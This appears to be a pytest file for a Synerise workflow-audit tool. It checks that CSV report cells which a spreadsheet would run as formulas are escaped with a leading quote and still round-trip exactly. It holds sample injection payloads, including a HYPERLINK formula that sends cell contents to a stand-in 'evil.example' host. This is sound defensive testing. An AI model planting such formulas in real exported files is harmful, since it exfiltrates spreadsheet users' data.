"""CSV injection (OWASP): a text cell a spreadsheet would run as a formula (it starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, after any quotes) is written
with one ``'`` before it, and the reader takes exactly one off again, so every name
round-trips exactly through write and read (``read_report``, and through it resume,
baselines and ``synerise-async report``); numbers are never touched."""

from __future__ import annotations

import datetime as dt
import re
import tempfile
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, seed, settings
from hypothesis import strategies as st

from synerise_async import cli
from synerise_async.audit import (
    FetchFailure,
    Finding,
    ReportFormat,
    ReportWriter,
    Severity,
    WorkflowAudit,
    WorkspaceRef,
    read_baseline,
    read_report,
    record_to_csv_row,
)
from synerise_async.models import Tag, Workflow, WorkflowStatistics, WorkflowStatus

AT = dt.datetime(2026, 1, 2, tzinfo=dt.UTC)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "'=1+1",
    "''+1",
    "'@x",
)
#: What a spreadsheet runs: a cell starting with one of these.
RUNS = re.compile(r"^[=+\-@\t\r]")
#: The text cells: user input (names, tags, messages) and what the API sent.
TEXT = ("workspace_name", "name", "tags", "finding_messages", "error_message")
#: Cells that are numbers, never touched.
NUMBERS = ("started", "finished", "in_progress", "last_run_failed_records", "error_status_code")


def record(name: str, *, workspace: str = "Acme", message: str = "why") -> WorkflowAudit:
    return WorkflowAudit(
        workspace=WorkspaceRef(guid="guid-1", id=7, name=workspace),
        workflow=Workflow(
            diagram_id="wf-1",
            name=name,
            status=WorkflowStatus.ACTIVE,
            tags=(Tag(value=name),),
            updated=AT,
        ),
        statistics=WorkflowStatistics(started=-1, finished=-2, in_progress=3),
        findings=(Finding(code="no-tags", severity=Severity.WARNING, message=message),),
        error=FetchFailure(operation="statistics", kind="not_found", status_code=404, message=name),
        audited_at=AT,
    )


def write_and_read(path: Path, *records: WorkflowAudit) -> tuple[WorkflowAudit, ...]:
    with ReportWriter(path, ReportFormat.CSV) as writer:
        for one in records:
            writer.write(one)
    return read_report(path, ReportFormat.CSV, records=True).records


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_cell_starts_a_formula(text: str) -> None:
    row = record_to_csv_row(record(text, workspace=text, message=text))
    for field in TEXT:
        assert not RUNS.match(row[field]), (field, row[field])
        assert row[field] == "'" + text, field
    # Numbers, even negative ones, stay numbers.
    assert (row["started"], row["finished"], row["in_progress"]) == ("-1", "-2", "3")


@pytest.mark.parametrize("text", [*FORMULAS, "'plain", "plain", "''", "a=b", " =x"])
def test_every_name_round_trips(tmp_path: Path, text: str) -> None:
    original = record(text, workspace=text, message=text)
    (back,) = write_and_read(tmp_path / "r.csv", original)
    assert back.workflow.name == text
    assert back.workspace.name == text
    assert [t.value for t in back.workflow.tags] == [text]
    assert [f.message for f in back.findings] == [text]
    assert back.error is not None and back.error.message == text
    assert back.statistics == original.statistics
    summary = read_report(tmp_path / "r.csv", ReportFormat.CSV).summary
    assert summary.workspaces == {"guid-1": text}


def test_resume_knows_the_records_by_their_own_keys(tmp_path: Path) -> None:
    # The ids come from the API; a hostile one is guarded like a name, and read back.
    odd = WorkflowAudit(
        workspace=WorkspaceRef(guid="=guid", name="Acme"),
        workflow=Workflow(diagram_id="-5"),
        audited_at=AT,
    )
    write_and_read(tmp_path / "r.csv", odd)
    assert read_report(tmp_path / "r.csv", ReportFormat.CSV).keys == {("=guid", "-5")}


def test_a_quote_is_added_only_before_a_formula(tmp_path: Path) -> None:
    row = record_to_csv_row(record("'plain", workspace="a=b"))
    assert (row["name"], row["workspace_name"]) == ("'plain", "a=b")


# One line of CSV holds no line break: the writer makes them spaces (see the policy).
characters = st.characters(
    exclude_categories=["Cs"], exclude_characters="\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"
)
line_text = st.text(characters, min_size=1, max_size=30)
#: Text a spreadsheet would run, behind any number of quotes.
formula_text = st.builds(
    lambda quotes, first, rest: quotes + first + rest,
    st.text("'", max_size=3),
    st.sampled_from("=+-@\t"),
    st.text(characters, max_size=10),
)


@seed(12)
@settings(max_examples=200, deadline=None)
@given(name=line_text | formula_text)
def test_any_text_through_write_and_read_is_itself(name: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        (back,) = write_and_read(Path(tmp) / "r.csv", record(name, workspace=name))
    assert back.workflow.name == name
    assert back.workspace.name == name
    if ";" not in name:
        assert [t.value for t in back.workflow.tags] == [name]


def test_a_baseline_and_the_report_command_read_the_names_back(tmp_path: Path) -> None:
    report = tmp_path / "r.csv"
    name = '=HYPERLINK("http://evil.example")'
    write_and_read(report, record(name, workspace="@Acme"))
    baseline = read_baseline(report)
    assert baseline.workspaces == {"guid-1"}

    html = tmp_path / "r.html"
    assert cli.main(["report", str(report), "--html", str(html)]) == cli.EXIT_OK

    class Cells(HTMLParser):
        def __init__(self) -> None:
            super().__init__(convert_charrefs=True)
            self.text: list[str] = []

        def handle_data(self, data: str) -> None:
            self.text.append(data)

    cells = Cells()
    cells.feed(html.read_text(encoding="utf-8"))
    assert name in cells.text
    assert "@Acme" in cells.text
    assert not any(t.startswith(("'=", "'@")) for t in cells.text)
